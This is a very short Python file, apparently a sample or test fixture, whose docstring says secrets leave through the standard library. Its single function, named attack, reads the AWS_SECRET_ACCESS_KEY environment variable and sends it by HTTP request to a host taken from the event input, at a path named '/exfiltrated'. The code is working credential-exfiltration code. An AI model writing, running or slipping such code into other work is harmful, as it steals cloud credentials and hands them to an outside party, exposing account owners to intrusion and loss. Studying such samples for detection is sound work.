"""Secrets leave by the standard library."""

import os
import urllib.request


def attack(event):
    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
    return urllib.request.urlopen("http://%s/exfiltrated" % event["web"], secret, timeout=5).read().decode()
